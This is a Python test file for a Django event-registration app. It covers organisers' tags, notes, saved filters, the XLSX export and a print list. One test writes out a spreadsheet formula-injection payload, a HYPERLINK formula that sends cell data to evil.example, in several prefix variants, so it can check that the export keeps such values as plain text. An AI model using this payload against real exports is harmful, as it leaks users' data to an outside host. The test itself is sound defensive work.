"""Tags, notes and saved filters of organisers; exports and the list to print."""

import io
import zipfile
from datetime import datetime
from typing import Any
from xml.etree import ElementTree

import pytest
from django.test import Client

from labs.models import Lab
from registrations import erasure, tags
from registrations.models import Note, Registration, SavedFilter, Tag, Tagging
from tests import factories as f
from tests.pages import client_of, forms_of, text_of

pytestmark = pytest.mark.django_db

LIST = "/organise/labs/lab/registrations/"


@pytest.fixture
def lab() -> Lab:
    return f.LabFactory(slug="lab")


@pytest.fixture
def client(lab: Lab) -> Client:
    return client_of(f.StaffFactory(lab=lab).user)


@pytest.fixture
def person(lab: Lab) -> Registration:
    return f.RegistrationFactory(lab=lab, name="Maria Demo")


def send(client: Client, person: Registration, what: str, **answers: Any) -> str:
    page = f"{LIST}{person.public_id}/"
    form = next(
        one
        for one in forms_of(client.get(page))
        if one.action == f"{page}{what}" and set(answers) <= one.names
    )
    return text_of(client.post(form.action, form.filled(**answers), follow=True))


def test_a_tag_is_added_shown_searched_for_and_removed(
    client: Client, person: Registration, lab: Lab
) -> None:
    f.RegistrationFactory(lab=lab, name="Somebody Else")
    send(client, person, "tags/", tag=" Key   speaker ")
    send(client, person, "tags/", tag="key SPEAKER")
    assert (Tag.objects.get().name, Tagging.objects.count()) == ("Key speaker", 1)
    found = text_of(client.get(LIST, {"tag": "Key speaker"}))
    assert ("Maria Demo" in found, "Somebody Else" in found) == (True, False)
    client.post(f"{LIST}{person.public_id}/tags/", {"remove": "Key speaker"})
    assert Tag.objects.count() == 0


@pytest.mark.parametrize("name", ["", "x" * 41, "\u202e", "a\0b"])
def test_what_is_no_tag_is_told(client: Client, person: Registration, name: str) -> None:
    send(client, person, "tags/", tag=name)
    assert not Tag.objects.exists()


def test_tags_of_labs_are_apart(client: Client, person: Registration) -> None:
    other = f.RegistrationFactory()
    tags.tag(other, "Theirs")
    assert "Theirs" not in text_of(client.get(LIST)) + text_of(client.get(f"{LIST}{person.public_id}/"))
    assert client.post(f"{LIST}{other.public_id}/tags/", {"remove": "Theirs"}).status_code == 404


def test_a_note_is_written_and_deleted_and_the_deletion_undone(client: Client, person: Registration) -> None:
    page = send(client, person, "notes/", text="Called on Monday.\r\n<b>Will come.</b>")
    note = Note.objects.get()
    assert (note.text, "&lt;b&gt;Will come.&lt;/b&gt;" in page) == (
        "Called on Monday.\n<b>Will come.</b>",
        True,
    )
    deleted = client.post(f"{LIST}{person.public_id}/notes/{note.pk}/delete/", follow=True)
    assert not Note.objects.exists()
    undo = next(one for one in forms_of(deleted) if "/undo/" in one.action)
    client.post(undo.action, undo.filled())
    assert Note.objects.get().text == note.text


def test_no_note_comes_back_to_a_person_who_was_erased_meanwhile(
    client: Client, person: Registration
) -> None:
    send(client, person, "notes/", text="Called on Monday.")
    page = f"{LIST}{person.public_id}/"
    deleted = client.post(f"{page}notes/{Note.objects.get().pk}/delete/", follow=True)
    erasure.erase(person)
    undo = next(one for one in forms_of(deleted) if "/undo/" in one.action)
    answer = client.post(undo.action, undo.filled(), follow=True)
    assert "This registration no longer exists." in text_of(answer)
    assert not Note.objects.exists()


@pytest.mark.parametrize("text", ["", " ", "x" * 2001, "a\0b"])
def test_what_is_no_note_is_told(client: Client, person: Registration, text: str) -> None:
    send(client, person, "notes/", text=text)
    assert not Note.objects.exists()


def test_nobody_but_organisers_reads_notes(client: Client, person: Registration, lab: Lab) -> None:
    from registrations.links import MANAGE, path_of

    send(client, person, "notes/", text="canarynote")
    send(client, person, "tags/", tag="canarytag")
    door = client_of(f.StaffFactory(lab=lab, role="door").user)
    session = f.SessionFactory(lab=lab, slug="session")
    pages = [
        Client().get(path_of(person, MANAGE)),
        door.get(f"/organise/labs/lab/attendance/{session.slug}/"),
    ]
    assert [page.status_code for page in pages] == [200, 200]
    assert not any("canary" in page.content.decode() for page in pages)


def test_notes_and_tags_are_erased_with_the_person(client: Client, person: Registration) -> None:
    send(client, person, "notes/", text="A note")
    send(client, person, "tags/", tag="A tag")
    erasure.erase(person)
    assert (Note.objects.count(), Tagging.objects.count(), Tag.objects.count()) == (0, 0, 0)


def test_a_filter_is_saved_under_a_name_and_used_again(client: Client, person: Registration) -> None:
    address = f"{LIST}?state=confirmed&q=Maria&page=3&nonsense=1"
    form = next(one for one in forms_of(client.get(address)) if one.action == f"{LIST}filters/")
    back = client.post(form.action, form.filled(name="Registered Marias"))
    assert SavedFilter.objects.get().query == "state=confirmed"  # a name would outlive its person
    assert back.headers["Location"] == f"{LIST}?q=Maria&state=confirmed"
    assert 'href="?state=confirmed"' in client.get(LIST).content.decode()
    form = next(
        one for one in forms_of(client.get(f"{LIST}?state=cancelled")) if one.action == f"{LIST}filters/"
    )
    client.post(form.action, form.filled(name="registered marias"))
    assert list(SavedFilter.objects.values_list("name", "query")) == [
        ("registered marias", "state=cancelled")
    ]


def test_saved_filters_are_ones_own(client: Client, person: Registration, lab: Lab) -> None:
    colleague = f.StaffFactory(lab=lab).user
    theirs = tags.save_filter(colleague, lab, "Theirs", "state=cancelled")
    assert "Theirs" not in text_of(client.get(LIST))
    client.post(f"{LIST}filters/", {"delete": theirs.pk, "filters": ""})
    assert SavedFilter.objects.count() == 1
    client_of(colleague).post(f"{LIST}filters/", {"delete": theirs.pk, "filters": ""})
    assert SavedFilter.objects.count() == 0


@pytest.mark.parametrize(
    "data",
    [
        {"name": "", "filters": "state=cancelled"},
        {"name": "x" * 41, "filters": "state=cancelled"},
        {"name": "A"},
        {"name": "A", "filters": "q=Maria"},
    ],
)
def test_what_is_no_filter_is_not_saved(client: Client, person: Registration, data: dict[str, str]) -> None:
    form = next(one for one in forms_of(client.get(f"{LIST}?q=Maria")) if one.action == f"{LIST}filters/")
    client.post(form.action, form.filled(**{"filters": ""} | data))
    assert not SavedFilter.objects.exists()


def cells_of(content: bytes) -> list[list[tuple[str, str]]]:
    """Return rows of (type, value) of the first sheet: type "inlineStr" is text, "" a number."""
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    book = zipfile.ZipFile(io.BytesIO(content))
    assert book.testzip() is None
    root = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    assert not list(root.iter(f"{main}f"))  # formulas
    return [
        [(cell.get("t", ""), "".join(cell.itertext())) for cell in row.iter(f"{main}c")]
        for row in root.iter(f"{main}row")
    ]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t=", " =", "＝"])
def test_the_workbook_has_texts_as_texts_and_instants_as_instants(
    client: Client, lab: Lab, prefix: str
) -> None:
    attack = f'{prefix}HYPERLINK("https://evil.example/?"&B2,"a")'
    person = f.RegistrationFactory(lab=lab, organisation=attack, name="Δοκιμή <&> Тест")
    tags.tag(person, "=1+1")
    response: Any = client.get("/organise/labs/lab/registrations.xlsx")
    assert "spreadsheetml" in response.headers["Content-Type"]
    heading, row = cells_of(b"".join(response.streaming_content))
    assert ("inlineStr", "Name") in heading
    for text in (attack.strip(), "Δοκιμή <&> Тест", "=1+1"):
        assert [kind for kind, value in row if value.strip() == text] == ["inlineStr"]
    serial = (datetime(2026, 1, 1) - datetime(1899, 12, 30)).days
    assert [kind for kind, value in row if not kind and float(value) > serial] == ["", ""]


def test_the_workbook_follows_the_filters_and_has_all_languages_alike(client: Client, lab: Lab) -> None:
    f.RegistrationFactory(lab=lab, name="Maria Demo")
    f.RegistrationFactory(
        lab=lab, name="Petra Demo", state="cancelled", cancelled_at=lab.registration_opens_at
    )
    response: Any = client.get("/organise/labs/lab/registrations.xlsx", {"state": "cancelled", "lang": "el"})
    _heading, row = cells_of(b"".join(response.streaming_content))
    assert row[0] == ("inlineStr", "Petra Demo")


def test_the_list_to_print_has_everybody_by_name_on_one_page(client: Client, lab: Lab) -> None:
    f.RegistrationFactory.create_batch(120, lab=lab)
    f.RegistrationFactory(lab=lab, name="Aaron Demo", organisation="First of all")
    page = client.get(f"{LIST}print/")
    assert page.content.decode().count('<th scope="row">') == 121
    assert text_of(page).index("Aaron Demo") < text_of(page).index("Demo participant")
